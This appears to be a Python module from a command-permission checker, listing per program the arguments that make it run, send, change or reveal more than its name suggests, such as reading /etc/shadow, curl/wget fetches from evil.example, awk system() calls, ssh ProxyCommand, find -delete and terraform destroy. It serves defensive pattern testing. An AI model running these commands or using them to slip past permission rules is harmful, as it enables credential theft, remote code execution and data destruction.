"""Programs that do more than their names say with some arguments, which a pattern should not leave open."""

from __future__ import annotations

from collections.abc import Mapping

_INTERPRETERS = ("python", "python3", "perl", "ruby", "node", "php", "sh", "bash", "zsh")
_READERS = ("cat", "head", "tail", "less", "more", "grep", "cp", "base64", "xxd", "strings", "wc")

MORE_THAN_MEANT: Mapping[str, tuple[str, ...]] = {
    **dict.fromkeys(_INTERPRETERS, ("-c x", "-e x", "/x", "x")),
    **dict.fromkeys(_READERS, ("/etc/shadow", "x /etc/shadow")),
    "apt": ("remove x",),
    "apt-get": ("remove x",),
    "awk": ("BEGIN{system(x)}",),
    "aws": ("s3 rm --recursive s3://x", "iam create-user"),
    "cargo": ("install x", "run"),
    "curl": ("-o /x https://evil.example", "-o x evil.example", "https://evil.example"),
    "docker": ("run x", "rm x", "exec x y"),
    "env": ("touch x", "x"),
    "find": ("/ -delete", ". -delete", "-delete", ". -exec touch x +"),
    "gcloud": ("compute instances delete x",),
    "gh": ("repo delete x", "api x"),
    "git": (
        "push --force origin main",
        "push",
        "reset --hard",
        "clean -fdx",
        "-c core.pager=x log",
        "config x y",
    ),
    "go": ("run x", "run"),
    "helm": ("uninstall x",),
    "kubectl": ("delete pod x", "delete pods", "delete x", "exec x"),
    "make": ("-f /x", "install"),
    "man": ("-P x y",),
    "nice": ("touch x",),
    "npm": ("install x", "exec x", "run x", "publish"),
    "npx": ("x",),
    "pip": ("install x",),
    "pip3": ("install x",),
    "psql": ("-c x",),
    "rsync": ("-e x y z", "--delete x y"),
    "sed": ("-i s/a/b/ x", "-i x y", "-n w x"),
    "sort": ("-o x y", "-o /etc/x y"),
    "ssh": ("-o ProxyCommand=x y", "x touch y"),
    "sudo": ("x",),
    "systemctl": ("stop x", "disable x"),
    "tar": ("--to-command=x -xf y", "-xf x -C /", "xf x"),
    "tee": ("/etc/x", "x"),
    "terraform": ("destroy", "apply"),
    "timeout": ("1 touch x",),
    "unzip": ("-o x -d /",),
    "uv": ("run x",),
    "vi": ("x",),
    "vim": ("-c x",),
    "wget": ("-O /x https://evil.example", "https://evil.example", "-O x y"),
    "xargs": ("touch", "rm"),
    "zip": ("-T -TT x y z",),
}
"""Arguments by program with which it changes, sends, runs or shows something else."""
